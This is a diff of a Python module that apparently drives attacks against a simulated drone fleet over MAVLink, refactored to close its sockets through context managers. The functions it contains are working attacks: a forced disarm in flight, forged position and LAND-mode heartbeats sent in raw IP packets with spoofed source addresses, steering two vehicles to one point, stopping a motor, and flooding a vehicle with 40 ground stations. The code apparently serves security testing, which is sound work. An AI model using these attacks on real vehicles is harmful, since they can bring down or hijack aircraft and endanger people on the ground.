@@ -9,9 +9,9 @@ import struct
 import threading
 import time
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager
+from contextlib import ExitStack, contextmanager
 from dataclasses import dataclass
-from typing import Any, Final
+from typing import Any, Final, Self
 
 import zenoh
 from pymavlink.dialects.v10 import ardupilotmega as old
@@ -48,7 +48,19 @@ class Target:
         return [entry.id for entry in self.manifest.fleet]
 
 
-class GroundStation:
+class _Sender:
+    """Owns a socket; a context manager."""
+
+    _socket: socket.socket
+
+    def __enter__(self) -> Self:
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._socket.close()
+
+
+class GroundStation(_Sender):
     """MAVLink to one vehicle from a port of its own."""
 
     def __init__(self, target: Target, agent: int, *, version: int = 2) -> None:
@@ -64,11 +76,8 @@ class GroundStation:
         values = (*parameters, *(0.0,) * (7 - len(parameters)))
         self.send(mavlink.MAVLink_command_long_message(self.sysid, 1, number, 0, *values))
 
-    def close(self) -> None:
-        self._socket.close()
 
-
-class Spoofed:
+class Spoofed(_Sender):
     """Datagrams to an agent with its vehicle's address as their sender's; PermissionError where
     this user may not make them."""
 
@@ -90,9 +99,6 @@ class Spoofed:
         here = socket.inet_aton(LOCALHOST)
         head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, here, here)
         self._socket.sendto(head + udp, (LOCALHOST, 0))
-
-    def close(self) -> None:
-        self._socket.close()
 
 
 Attack = Callable[[Target, threading.Event], None]
@@ -120,55 +126,60 @@ def kill(target: Target, _: threading.Event) -> None:
 def steer(target: Target, end: threading.Event) -> None:
     """Two vehicles, by SET_POSITION_TARGET, to one place."""
     mask = 0b110111111000  # a position alone
-    stations = [GroundStation(target, agent) for agent in (1, 2)]
-    while not end.wait(0.004):
-        for each in stations:
-            each.send(
-                mavlink.MAVLink_set_position_target_local_ned_message(
-                    0, each.sysid, 1, 1, mask, 65.0, 65.0, -10.0, 0, 0, 0, 0, 0, 0, 0, 0
+    with ExitStack() as opened:
+        stations = [opened.enter_context(GroundStation(target, agent)) for agent in (1, 2)]
+        while not end.wait(0.01):
+            for each in stations:
+                each.send(
+                    mavlink.MAVLink_set_position_target_local_ned_message(
+                        0, each.sysid, 1, 1, mask, 65.0, 65.0, -10.0, 0, 0, 0, 0, 0, 0, 0, 0
+                    )
                 )
-            )
 
 
 def disarm(target: Target, _: threading.Event) -> None:
     """One vehicle, in the air, by force."""
-    GroundStation(target, 3).command(mavlink.MAV_CMD_COMPONENT_ARM_DISARM, 0, FORCE)
+    with GroundStation(target, 3) as station:
+        station.command(mavlink.MAV_CMD_COMPONENT_ARM_DISARM, 0, FORCE)
 
 
 def one_heartbeat(target: Target, _: threading.Event) -> None:
     """In mode LAND, to one agent, with its vehicle's address."""
     armed = mavlink.MAV_MODE_FLAG_SAFETY_ARMED | mavlink.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED
-    Spoofed(target, 3).send(mavlink.MAVLink_heartbeat_message(2, 3, armed, LAND_MODE, 4, 3))
+    with Spoofed(target, 3) as forged:
+        forged.send(mavlink.MAVLink_heartbeat_message(2, 3, armed, LAND_MODE, 4, 3))
 
 
 def positions(target: Target, end: threading.Event) -> None:
     """LOCAL_POSITION_NED, 8 m off, to one agent, with its vehicle's address."""
-    forged = Spoofed(target, 3)
     since = time.monotonic()
-    while not end.wait(0.004):
-        boot_ms = round((time.monotonic() - since) * 1000 * target.manifest.speedup) + 60_000
-        forged.send(
-            mavlink.MAVLink_local_position_ned_message(boot_ms, 8.0, 8.0, -10.0, 0.0, 0.0, 0.0)
-        )
+    with Spoofed(target, 3) as forged:
+        while not end.wait(0.01):
+            boot_ms = round((time.monotonic() - since) * 1000 * target.manifest.speedup) + 60_000
+            forged.send(
+                mavlink.MAVLink_local_position_ned_message(boot_ms, 8.0, 8.0, -10.0, 0.0, 0.0, 0.0)
+            )
 
 
 def stop_motor(target: Target, _: threading.Event) -> None:
     """One vehicle's, by PARAM_SET of a simulator's own parameter."""
-    station = GroundStation(target, 3)
-    station.send(mavlink.MAVLink_param_set_message(station.sysid, 1, b"SIM_MOTOR_STOP", 1.0, 9))
+    with GroundStation(target, 3) as station:
+        station.send(mavlink.MAVLink_param_set_message(station.sysid, 1, b"SIM_MOTOR_STOP", 1.0, 9))
 
 
 def old_land(target: Target, _: threading.Event) -> None:
     """One vehicle, by NAV_LAND in MAVLink 1."""
-    GroundStation(target, 3, version=1).command(mavlink.MAV_CMD_NAV_LAND)
+    with GroundStation(target, 3, version=1) as station:
+        station.command(mavlink.MAV_CMD_NAV_LAND)
 
 
 def crowd(target: Target, end: threading.Event) -> None:
     """40 ground stations on one vehicle's port."""
-    stations = [GroundStation(target, 3) for _ in range(40)]
-    while not end.wait(0.01):
-        for each in stations:
-            each.send(mavlink.MAVLink_heartbeat_message(6, 8, 0, 0, 4, 3))
+    with ExitStack() as opened:
+        stations = [opened.enter_context(GroundStation(target, 3)) for _ in range(40)]
+        while not end.wait(0.1):
+            for each in stations:
+                each.send(mavlink.MAVLink_heartbeat_message(6, 8, 0, 0, 4, 3))
 
 
 ATTACKS: Final[dict[str, Attack]] = {
